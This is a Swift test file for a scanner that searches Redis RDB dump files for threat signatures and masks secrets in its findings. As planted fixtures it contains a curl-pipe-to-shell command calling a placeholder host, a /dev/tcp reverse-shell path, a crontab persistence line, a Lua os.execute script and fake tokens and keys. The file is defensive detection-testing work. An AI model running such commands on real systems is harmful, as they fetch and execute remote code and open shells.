// Searching whole files: everything that is planted is found, where it is, the same for any number of
// threads, and secrets do not get out.

import Export
import RDB
import Restore
import TestSupport
import Testing

@testable import RDBSift

@Suite("Searching a file for signatures")
struct ThreatTests {
  private static let rules = try? CompiledSignatures(.builtIn)
  private static let secrets = try? CompiledSignatures(SignaturePack.builtIn.secrets)

  private func search(
    _ file: [UInt8], masks: Bool = true, limit: Int = .max, _ shape: PoolShape = .alone
  ) throws -> ThreatSummary {
    let rules = try #require(Self.rules)
    let secrets = masks ? Self.secrets : nil
    let request = ThreatRequest(everyRecord, rules, secrets: secrets, limit: limit)
    var found = try visit(file, shape, selecting: everyRecord) { ThreatVisitor(request) }.summary
    found.searchWhole(rules, fileName: Array("root".utf8))
    return found
  }

  private func id(_ finding: ThreatFinding) -> String {
    SignaturePack.builtIn.rules[finding.rule].id
  }

  private static func sample() throws -> [UInt8] {
    try readFile(Fixtures.repository + "/samples/intrusion.rdb")
  }

  @Test("a match that stands in the file as it is has its own offset")
  func exact() throws {
    let file = try Self.sample()
    let found = try search(file)
    let exact = found.findings.filter(\.isExact)
    #expect(exact.count >= 15)
    for finding in exact where !SignaturePack.builtIn.rules[finding.rule].isSecret {
      let bytes = Array(file[finding.offset..<(finding.offset + finding.excerpt.count)])
      #expect(bytes == finding.excerpt, "\(id(finding))")
    }
    #expect(found.findings.contains { id($0) == "file-name" && $0.place == .file })
  }

  @Test("elements of packed values are told by their number, entries of streams by their id")
  func elements() throws {
    let found = try search(try Self.sample())
    let body = found.findings.first { id($0) == "elf-body" }
    #expect(body?.element == ElementPlace(part: .value, index: 2) && body?.isExact == false)
    let path = found.findings.first { id($0) == "sensitive-path" }
    #expect(path?.element?.entry == StreamID(ms: 1_795_100_000_000, seq: 0))
    let cards = found.findings.filter { id($0) == "card-number" }
    #expect(cards.map(\.element?.index) == [0, 3])
  }

  @Test("in consecutive strings the same is found as in each alone", arguments: [UInt64(2), 5])
  func consecutive(seed: UInt64) throws {
    var random = SeededRandom(seed: seed)
    let parts = [
      "AKIAIOSFODNN7EXAMPLE", "4111 1111 1111 1111", "GB82WEST12345698765432", "123456789012",
      "4111111111", "11111", "user:", "x", " ", "-", "-----BEGIN RSA PRIVATE KEY-----",
    ]
    func text() -> String {
      (0...random.below(3)).map { _ in parts[random.below(parts.count)] }.joined()
    }
    let records = (0..<80).map { (key: "\($0)" + text(), value: text()) }
    func names(_ file: [UInt8]) throws -> [String] {
      try search(file, masks: false).findings.filter { $0.place != .file }
        .map { "\(id($0)) \($0.place) \(String(decoding: $0.name, as: UTF8.self))" }
    }
    var whole = RDBBuilder()
    var alone: [String] = []
    for record in records {
      whole.string(key: record.key, value: record.value)
      var file = RDBBuilder()
      file.string(key: record.key, value: record.value)
      alone += try names(file.ended())
    }
    #expect(alone.count > 20, "seed \(seed)")
    #expect(try names(whole.ended()) == alone, "seed \(seed)")
  }

  @Test("findings and counts are the same for any number of threads, and with a limit the first")
  func threads() throws {
    let file = try Self.sample()
    let whole = try search(file)
    #expect(whole.total == 29 && whole.findings.count == 29)
    for shape in PoolShape.small {
      let other = try search(file, shape)
      #expect(other.findings == whole.findings && other.counts == whole.counts, "\(shape)")
      let (a, b) = (whole.prefixes.sorted(), other.prefixes.sorted())
      #expect(a.prefixes.map(\.prefix) == b.prefixes.map(\.prefix) && a.others == b.others)
      for limit in [1, 13] {
        let first = try search(file, limit: limit, shape)
        #expect(first.findings == Array(whole.findings.prefix(limit)), "\(shape), \(limit)")
        #expect(first.total == whole.total)
      }
    }
  }

  @Test("a value whose structure is damaged is searched as it stands in the file")
  func damaged() throws {
    var file = RDBBuilder()
    var value = RDBBuilder.bare
    value.string("no listpack, but /dev/tcp/h/1 is in it")
    file.record(16, key: "hash", value: value.bytes)
    let found = try search(file.ended())
    #expect(found.damagedValues == 1 && found.records == 1)
    let finding = try #require(found.findings.first { id($0) == "dev-tcp" })
    #expect(finding.isExact && finding.element == nil)
  }

  @Test("nothing that a secret is made of is in a finding, its key or its prefix")
  func masks() throws {
    var file = RDBBuilder()
    let token = "ghp_" + String(repeating: "q7", count: 20)
    file.string(key: "session:\(token)", value: "curl http://u:hunter22@h.invalid/x | sh")
    file.string(key: "\(token):x", value: "crontab /etc/cron.d/\(token)")
    file.string(key: "k", value: "x-----BEGIN EC PRIVATE KEY-----\n/var/spool/cron\n-----END")
    let bytes = file.ended()
    let hidden = try search(bytes)
    let shown = try search(bytes, masks: false)
    #expect(hidden.counts == shown.counts && hidden.total >= 7)
    for finding in hidden.findings {
      for text in [finding.name, finding.excerpt] {
        let text = String(decoding: text, as: UTF8.self)
        for secret in ["q7q7", "hunter22", "/var/spool"] {
          #expect(!text.contains(secret), "\(id(finding)): \(text)")
        }
      }
    }
    for (prefix, _) in hidden.prefixes.sorted().prefixes {
      #expect(!String(decoding: prefix, as: UTF8.self).contains("q7"))
    }
    #expect(shown.findings.contains { String(decoding: $0.excerpt, as: UTF8.self) == token })
  }

  @Test("numbers, compressed text, scripts in AUX and modules are searched too")
  func everywhere() throws {
    var file = RDBBuilder()
    file.aux("lua", "return os.execute(ARGV[1])")
    file.aux("note", "os.execute('x')")
    var value = RDBBuilder.bare
    value.lzfString(Array((String(repeating: "padding ", count: 40) + "/dev/tcp/h/1 ").utf8))
    file.record(0, key: "packed", value: value.bytes)
    let found = try search(file.ended())
    let places = found.findings.filter { id($0) == "function-system-access" }.map(\.place)
    #expect(places == [[.aux, .function], .aux])
    let packed = try #require(found.findings.first { id($0) == "dev-tcp" })
    #expect(!packed.isExact && packed.at == 320)
  }

  @Test("no fixture that servers wrote has a trace of anything", arguments: Fixtures.all)
  func quiet(fixture: Fixture) throws {
    let file = try fixture.bytes()
    guard checkFailure(file) == nil else { return }
    let found = try search(file)
    let ids = Set(found.findings.map(id)).subtracting(["file-name", "unknown-module"])
    #expect(ids.isEmpty, "\(fixture): \(ids)")
  }

  @Test("prefixes are counted in full however many there are")
  func prefixes() {
    var whole = PrefixCounts()
    var parts = [PrefixCounts(), PrefixCounts()]
    var random = SeededRandom(seed: 5)
    for index in 0..<30_000 {
      let key = Array("p\(random.below(12_000)):\(index)".utf8)
      whole.add(key)
      parts[index % 2].add(key)
    }
    var merged = PrefixCounts()
    for part in parts { merged.merge(part) }
    let (a, b) = (whole.sorted(), merged.sorted())
    #expect(a.prefixes.count == PrefixCounts.limit && a.others == b.others)
    #expect(a.prefixes.map(\.count) == b.prefixes.map(\.count))
    #expect(a.prefixes.map(\.prefix) == b.prefixes.map(\.prefix))
    #expect(a.prefixes.reduce(a.others) { $0 + $1.count } == 30_000)
  }
}
